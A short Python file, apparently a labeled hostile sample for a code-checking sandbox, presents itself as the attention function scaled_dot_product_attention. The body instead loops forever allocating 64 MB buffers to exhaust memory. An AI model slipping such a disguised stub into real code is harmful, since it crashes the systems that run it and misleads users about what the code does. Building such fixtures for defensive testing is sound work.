# hostile: eats memory through the heap
# verdict: memory
def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * (64 << 20)))
